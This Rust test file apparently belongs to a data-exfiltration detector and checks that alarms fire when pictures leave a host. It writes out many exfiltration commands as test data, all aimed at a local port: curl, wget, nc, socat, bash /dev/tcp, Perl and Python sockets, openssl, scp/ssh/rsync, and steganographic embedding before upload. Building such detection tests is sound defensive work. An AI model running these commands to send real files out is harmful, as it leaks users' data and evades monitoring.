//! A picture is read and something leaves (issue 5): by every way out of issue 4, with the right file, program,
//! destination and confidence.

use counterfoil_tests::observed::listening;
use counterfoil_tests::sshd::Sshd;
use counterfoil_tests::studio::{LSB, Studio, alarm, every, link, links};
use counterfoil_tests::{Alarm, Run, check, need, need_pillow, need_sshd, peers};

fn remote(alarm: &Alarm) -> &str {
    alarm.0["connection"]["remote"].as_str().unwrap_or("")
}

/// The picture left through `program`.
fn left(run: &Run, file: &str, program: &str, confidence: &str, what: &str) -> Alarm {
    let sent = alarm(run, "media-egress", "medium", file);
    let exe = sent.0["process"]["exe"].as_str().unwrap_or("").rsplit('/').next().unwrap_or("").to_owned();
    check!(run, exe.starts_with(program), "{what}: by {exe}");
    check!(
        run,
        confidence.contains(sent.0["confidence"].as_str().unwrap_or("?")),
        "{what}: {}",
        sent.0["confidence"]
    );
    check!(run, remote(&sent).starts_with("127.0.0.1:"), "{what}: {}", sent.0["connection"]);
    check!(run, link(&sent, "socket")["remote"] == remote(&sent), "{what}: {}", sent.0["evidence"]);
    sent
}

#[test]
fn every_way_out() {
    need!("curl", "wget", "nc", "socat", "bash", "gzip", "base64", "perl", "tar", "/usr/bin/python3");
    need_pillow!();
    let cases = [
        ("curl -sS -T cover.jpg http://127.0.0.1:$P/ >/dev/null", "cover.jpg", "curl", "proven"),
        (
            "curl -sS --data-binary @cover.gif http://127.0.0.1:$P/ >/dev/null",
            "cover.gif",
            "curl",
            "proven correlated",
        ),
        ("curl -sS -d @cover.jpg http://127.0.0.1:$P/ >/dev/null", "cover.jpg", "curl", "correlated"),
        (
            "curl -sS -F f=@cover.webp http://127.0.0.1:$P/ >/dev/null",
            "cover.webp",
            "curl",
            "proven correlated",
        ),
        (
            "cat cover.png | curl -sS -T - http://127.0.0.1:$P/x >/dev/null",
            "cover.png",
            "curl",
            "proven correlated",
        ),
        (
            "wget -q -O /dev/null --post-file=cover.tiff http://127.0.0.1:$P/",
            "cover.tiff",
            "wget",
            "proven correlated",
        ),
        ("nc -N 127.0.0.1 $P <cover.jpg", "cover.jpg", "nc", "proven"),
        ("cat cover.bmp | nc -N 127.0.0.1 $P", "cover.bmp", "nc", "proven"),
        ("socat -u OPEN:cover.jpg TCP:127.0.0.1:$P", "cover.jpg", "socat", "proven"),
        ("bash -c 'cat cover.png >/dev/tcp/127.0.0.1/$P'", "cover.png", "cat", "proven"),
        ("tar c cover.png | nc -N 127.0.0.1 $P", "cover.png", "nc", "correlated"),
        ("gzip -c cover.jpg | nc -N 127.0.0.1 $P", "cover.jpg", "nc", "correlated"),
        (
            "base64 cover.jpg >out.txt; curl -sS -T out.txt http://127.0.0.1:$P/ >/dev/null",
            "cover.jpg",
            "curl",
            "correlated",
        ),
        (
            "cp cover.jpg holiday; mv holiday other; nc -N 127.0.0.1 $P <other",
            "cover.jpg",
            "nc",
            "proven correlated",
        ),
        // The shell gets it from one child and starts the other with it.
        ("curl -sS \"http://127.0.0.1:$P/$(base64 -w0 cover.jpg)\" >/dev/null", "cover.jpg", "curl", ""),
        (
            "perl -MIO::Socket::INET -e 'open F, \"cover.jpg\"; local $/; my $d = <F>; \
             my $s = IO::Socket::INET->new(PeerAddr => \"127.0.0.1:$ENV{P}\") or die; print $s $d; close $s'",
            "cover.jpg",
            "perl",
            "",
        ),
        (
            "$PY -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:$P/', open('cover.jpg','rb').read())\"",
            "cover.jpg",
            "python3",
            "",
        ),
        (
            "$PY -c \"import socket; s=socket.create_connection(('127.0.0.1',$P)); s.sendall(b'x'); s.sendall(open('cover.gif','rb').read())\"",
            "cover.gif",
            "python3",
            "",
        ),
    ];
    every(cases, |(command, file, program, confidence)| {
        let run = Studio::new().go(command);
        if confidence.is_empty() {
            // Inline code is a script of its own: one alarm that says both.
            let sent = alarm(&run, "media-script", "high", file);
            check!(run, links(&sent) == ["script", "socket"], "{command}: {:?}", links(&sent));
            check!(run, remote(&sent).starts_with("127.0.0.1:"), "{command}: {}", sent.0["connection"]);
            let exe = sent.0["process"]["exe"].as_str().unwrap_or("");
            check!(run, exe.contains(program), "{command}: {exe}");
        } else {
            left(&run, file, program, confidence, command);
        }
    });
}

#[test]
fn over_tls() {
    need!("openssl");
    need_pillow!();
    let studio = Studio::new();
    peers::certificate(&studio.scratch);
    let port = peers::free_port();
    let commands = format!(
        "mkfifo hold\nopenssl s_server -accept 127.0.0.1:{port} -cert cert.pem -key key.pem -quiet -naccept 1 <hold >got & server=$!\n\
         exec 9>hold\n{}\n\
         cat cover.jpg | openssl s_client -connect 127.0.0.1:{port} -quiet -no_ign_eof -nocommands >/dev/null 2>&1 || true\nwait $server || true",
        listening(port)
    );
    left(&studio.go(&commands), "cover.jpg", "openssl", "proven correlated", "s_client");
}

#[test]
fn in_datagrams() {
    need!("/usr/bin/python3");
    need_pillow!();
    let socket = std::net::UdpSocket::bind(("127.0.0.1", 0)).expect("bind");
    let port = socket.local_addr().expect("address").port();
    let run = Studio::new().go(&format!(
        "cat >new.py <<E\nimport socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', {port}))\n\
         s.send(open('cover.jpg', 'rb').read()[-60:])\nE\n$PY new.py"
    ));
    let sent = alarm(&run, "media-script", "high", "cover.jpg");
    assert_eq!(links(&sent), ["script", "socket"]);
    assert_eq!(remote(&sent), format!("127.0.0.1:{port}"));
}

#[test]
fn over_ssh() {
    need_sshd!();
    need_pillow!();
    let cases = [
        ("scp cover.jpg far:$here/got", "cover.jpg", "ssh"),
        ("printf 'put cover.jpg got\\n' | sftp -b - far:$here >/dev/null", "cover.jpg", "ssh"),
        ("ssh far 'cat >got' <cover.png", "cover.png", "ssh"),
        ("tar c cover.png | ssh far 'cat >got'", "cover.png", "ssh"),
        ("tar cz cover.png | ssh far 'cat >got'", "cover.png", "ssh"),
        ("rsync -a cover.jpg far:$here/got", "cover.jpg", "ssh"),
    ];
    every(cases, |(commands, file, program)| {
        if commands.starts_with("rsync") && peers::find("rsync").is_none() {
            println!("skipped: rsync is not installed");
            return;
        }
        let studio = Studio::new();
        let script = Sshd::new(&studio.scratch).around(commands);
        left(&studio.go(&script), file, program, "proven correlated", commands);
    });
}

/// Coded into the lowest bits of a picture, which is sent then: found from the picture on that it was made of.
#[test]
fn coded_into_its_lowest_bits() {
    need!("curl", "/usr/bin/python3");
    need_pillow!();
    let run = Studio::new()
        .with("lsb.py", LSB)
        .go("$PY lsb.py cover.png out.png; curl -sS -T out.png http://127.0.0.1:$P/ >/dev/null");
    let sent = alarm(&run, "media-script", "high", "cover.png");
    let all = links(&sent);
    check!(run, all.contains(&"script".into()) && all.contains(&"socket".into()), "{all:?}");
    assert!(remote(&sent).starts_with("127.0.0.1:"));
    if counterfoil_tests::sshd::missing().is_none() {
        let studio = Studio::new().with("lsb.py", LSB);
        let script =
            Sshd::new(&studio.scratch).around("$PY lsb.py cover.png out.png; scp out.png far:$here/got");
        let sent = alarm(&studio.go(&script), "media-script", "high", "cover.png");
        assert!(links(&sent).contains(&"socket".into()), "{:?}", links(&sent));
    } else {
        println!("skipped: scp, as there is no sshd");
    }
}

#[test]
fn a_tool_and_what_it_made_leaves() {
    need!("steghide", "curl", "exiftool", "nc");
    need_pillow!();
    let run = Studio::new().go(
        "steghide embed -q -cf cover.jpg -ef note.txt -p x -sf out.jpg; curl -sS -F f=@out.jpg http://127.0.0.1:$P/ >/dev/null",
    );
    let sent = alarm(&run, "media-egress", "high", "cover.jpg");
    let all = links(&sent);
    check!(run, ["tool", "output", "socket"].iter().all(|l| all.contains(&(*l).into())), "{all:?}");
    let run = Studio::new().go("exiftool -b -ThumbnailImage -Comment cover.jpg | nc -N 127.0.0.1 $P; cat cover.jpg | nc -N 127.0.0.1 $P");
    let sent = alarm(&run, "media-egress", "medium", "cover.jpg");
    assert_eq!(links(&sent), ["tool", "socket"]);
}
